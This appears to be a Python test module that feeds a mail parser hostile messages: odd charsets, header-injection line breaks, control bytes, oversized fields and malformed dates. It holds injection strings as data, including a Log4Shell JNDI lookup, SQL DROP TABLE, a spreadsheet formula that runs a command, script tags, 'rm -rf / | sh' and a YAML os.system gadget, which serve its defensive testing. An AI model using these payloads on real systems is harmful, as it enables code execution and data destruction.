"""F: charsets, control bytes and headers turned against their reader."""

from __future__ import annotations

from collections.abc import Callable

from parsing.message import Message
from tests.parsing.hostile import FROM, Case, mail


def one_subject(message: Message) -> bool:
    """The subject is one line without anything that moves a cursor or opens a field."""
    return message.subject.isprintable() and not message.cc


def labelled(charset: str, body: bytes = b"the words") -> bytes:
    return mail(f"Content-Type: text/plain; charset={charset}\n", body)


def f01_an_unknown_charset() -> Case:
    return Case(labelled("x-never-heard-of"))


def f02_a_charset_that_is_a_path() -> Case:
    return Case(labelled('"../../etc/passwd"'))


def f03_a_charset_of_3000() -> Case:
    return Case(labelled("a" * 3000))


def f04_an_empty_charset() -> Case:
    return Case(labelled('""'))


def f05_rot13() -> Case:
    return Case(labelled("rot13"))


def f06_unicode_escape() -> Case:
    return Case(labelled("unicode_escape", rb"the words \u0041"), words=r"the words \u0041")


def f07_idna() -> Case:
    return Case(labelled("idna"))


def f08_undefined() -> Case:
    return Case(labelled("undefined"))


def f09_zlib() -> Case:
    return Case(labelled("zlib_codec"))


def f10_utf_7() -> Case:
    return Case(labelled("utf-7", b"the words +ADw-script+AD4-"), words="the words")


def f11_utf_16_of_an_odd_length() -> Case:
    return Case(labelled("utf-16", "\ufeffthe words".encode("utf-16-le") + b"x"))


def f12_utf_32_that_is_none() -> Case:
    return Case(labelled("utf-32", b"\xff" * 40), words="")


def f13_broken_utf_8() -> Case:
    return Case(labelled("utf-8", b"the words \xc3\x28 \xf0\x9f"))


def f14_8_bit_ascii() -> Case:
    return Case(labelled("us-ascii", b"the words caf\xe9"), words="the words café")


def f15_broken_iso_2022_jp() -> Case:
    return Case(labelled("iso-2022-jp", b"the words \x1b$B\x80\x81\x1b(B"))


def f16_nul() -> Case:
    return Case(labelled("utf-8", b"the words\0\0"), words="the words\ufffd")


def f20_four_bytes() -> Case:
    return Case(labelled("utf-8", "the words 😀 𝒳".encode()), words="the words 😀 𝒳")


def _header_break(byte: str) -> bytes:
    return f"From: ann@example.org\nSubject: a{byte}Cc: x@example.net\n\nthe words".encode()


def f23_a_bare_cr_in_a_field() -> Case:
    return Case(_header_break("\r").replace(b"\n", b"\r\n"), check=one_subject)


def f24_a_bare_lf_in_a_body_of_crlf() -> Case:
    return Case(mail("").replace(b"\n", b"\r\n") + b"more\nBcc: x@example.net\n")


def f25_a_line_break_in_an_encoded_word() -> Case:
    return Case(_header_break("=?utf-8?q?=0D=0A?= "), check=one_subject)


def f26_a_line_break_in_base64() -> Case:
    return Case(_header_break("=?utf-8?b?DQpDYzogeA==?= "), check=one_subject)


def f27_controls_in_a_subject() -> Case:
    return Case(_header_break("\0\x1b[31m\u2028\x85\x07"), check=one_subject)


def f28_lf_alone() -> Case:
    return Case(mail(""))


def f29_cr_alone() -> Case:
    return Case(mail("").replace(b"\n", b"\r"))


def f30_line_ends_mixed() -> Case:
    return Case(
        b"From: ann@example.org\r\nTo: a@desk.example\nSubject: x\r\n\nthe words\r\nmore\n", words="words\nmore"
    )


def f31_a_line_without_a_colon() -> Case:
    return Case((FROM + "no colon here\nX: y\n\nthe words").encode())


def f32_odd_names_of_fields() -> Case:
    return Case((FROM + "X Y: 1\n: 2\nX\x7f: 3\nÜ: 4\n" + "x" * 5000 + ": 5\n\nthe words").encode())


def f48_a_from_line() -> Case:
    raw = b"From ann@example.org Fri Nov 20 10:00:00 2026\n" + mail("")
    return Case(raw, check=lambda message: message.subject == "help")


def f49_nothing() -> Case:
    return Case(b"", words="", check=lambda message: message.sender is None)


def f50_an_empty_line() -> Case:
    return Case(b"\r\n", words="")


def f51_an_empty_line_first() -> Case:
    return Case(b"\r\n\r\n" + mail("").replace(b"\n", b"\r\n"))


def f52_a_folded_line_of_blanks() -> Case:
    raw = f"{FROM} \t \nBcc: x@example.net\n\nthe words".encode()
    return Case(raw, check=one_subject)


def f52b_no_body() -> Case:
    return Case(FROM.encode(), words="", check=lambda message: message.subject == "help")


def f33_100000_fields() -> Case:
    return Case(mail("X: y\n" * 100_000))


def f34_a_field_of_a_mebibyte() -> Case:
    return Case(mail("X-Long: " + "y" * 2**20 + "\n"))


def f35_100000_folds() -> Case:
    return Case(mail("X-Long: y" + "\n y" * 100_000 + "\n"))


def f36_50000_recipients() -> Case:
    raw = mail("Cc: " + ", ".join(f"a{n}@example.net" for n in range(50_000)) + "\n")
    return Case(raw, check=lambda message: 0 < len(message.cc) <= 200)


def f37_20000_fields_of_recipients() -> Case:
    raw = mail("".join(f"Cc: a{n}@example.net\n" for n in range(20_000)))
    return Case(raw, check=lambda message: 0 < len(message.cc) <= 200)


JUNK = {
    "a_commas": "," * 60_000,
    "b_dots": "a@b" + "." * 60_000,
    "c_brackets": "<" * 60_000,
    "d_parentheses": "(" * 60_000,
    "e_marks": '"' * 60_000,
    "f_backslashes": '"' + "\\" * 60_000,
    "g_colons": "a:" * 30_000,
    "h_at_signs": "@" * 60_000,
    "i_blanks": "a" + " \t" * 30_000 + "@b",
}


def _junk(text: str) -> Callable[[], Case]:
    return lambda: Case(mail(f"Cc: {text}\nReply-To: {text}\n"))


globals().update({f"f38{name}": _junk(text) for name, text in JUNK.items()})


def f39_20000_encoded_words() -> Case:
    return Case(f"From: ann@example.org\nSubject: {'=?utf-8?q?a?= ' * 20_000}\n\nthe words".encode(), check=one_subject)


def f40_broken_encoded_words() -> Case:
    broken = "=?utf-8?q?a =?=?? =?utf-8?x?a?= =?utf-8?b?%%%?= =?utf-8?q?=ZZ?= =?rot13?q?nop?= =?utf-8?q??="
    return Case(f"From: ann@example.org\nSubject: {broken}\n\nthe words".encode(), check=one_subject)


def f41_a_subject_of_64_kib() -> Case:
    raw = f"From: ann@example.org\nSubject: {'a' * 65_000}\n\nthe words".encode()
    return Case(raw, check=lambda message: len(message.subject) <= 8192)


def f42_no_subject() -> Case:
    return Case(b"From: ann@example.org\n\nthe words", check=lambda message: not message.subject)


def f43_blanks_for_a_pattern() -> Case:
    return Case(f"From: ann@example.org\nSubject: Re:{' ' * 60_000}x\n\nthe words".encode(), check=one_subject)


def f44_prefixes_for_a_pattern() -> Case:
    return Case(f"From: ann@example.org\nSubject: {'Re: [' * 12_000}\n\nthe words".encode(), check=one_subject)


LITERAL = {
    "a": "{{7*7}}{% raw %}",
    "b": "{0.__class__} ${jndi:ldap://192.0.2.1/x} %s%n",
    "c": "'; DROP TABLE ticket; --",
    "d": "=cmd|' /C calc'!A0",
    "e": "<script>alert(1)</script>",
    "i": "$(id) `id` ; rm -rf / | sh",
    "j": "!!python/object/apply:os.system [id]",
}


def _literal(text: str) -> Callable[[], Case]:
    raw = f"From: ann@example.org\nSubject: {text}\n\nthe words {text}\n".encode()
    return lambda: Case(raw, words=text, check=lambda message: message.subject == " ".join(text.split()))


globals().update({f"f45{name}_literal": _literal(text) for name, text in LITERAL.items()})


DATES = {
    "a": "Fri, 20 Nov 0000 10:00:00 +0000",
    "b": "Fri, 31 Dec 9999 23:59:59 -2359",
    "c": "Fri, 20 Nov 99999 10:00:00 +0000",
    "d": "Fri, 20 Nov 2026 10:00:00 +9999",
    "e": "Mon, 30 Feb 2026 25:61:61 +0000",
    "f": "yesterday",
    "g": "Fri, 20 Nov 2099 10:00:00 +0000",
    "h": "Fri, -1 Nov -2026 10:00:00 +0000",
    "i": "Fri, 20 Nov 2026 10:00:00 +0000 " + "(" * 5000,
    "j": "1" * 5000,
    "k": "Fri, 20 Nov 2026 10:00:00 +0000\nDate: Sat, 21 Nov 2026 10:00:00 +0000",
}


def _dated(text: str) -> Callable[[], Case]:
    return lambda: Case(mail(f"Date: {text}\n"))


globals().update({f"f53{name}_date": _dated(text) for name, text in DATES.items()})


def f54_no_date() -> Case:
    return Case(mail(""), check=lambda message: message.date is None)


def f55_a_line_of_a_mebibyte() -> Case:
    return Case(mail("", "the words" + " x" * 2**19), check=lambda message: len(message.text) > 2**20)


def f56_a_line_of_2000() -> Case:
    return Case(mail("", "the words" + "x" * 2000), words="the words" + "x" * 2000)


def f57_dots() -> Case:
    return Case(mail("", ".\n..\n.the words.\n...\n"), words=".\n..\n.the words.\n...\n")


def f58_utf_8_addresses() -> Case:
    raw = "From: Jörg <jörg@exämple.example>\nTo: a@desk.example\n\nthe words".encode()
    return Case(raw, check=lambda message: "xn--exmple-cua" in str(message.sender) or message.sender is None)


def f59_bcc() -> Case:
    raw = mail("Bcc: secret@example.net\nResent-Bcc: other@example.net\n")
    return Case(raw, never="secret", check=lambda message: "secret" not in str(message))
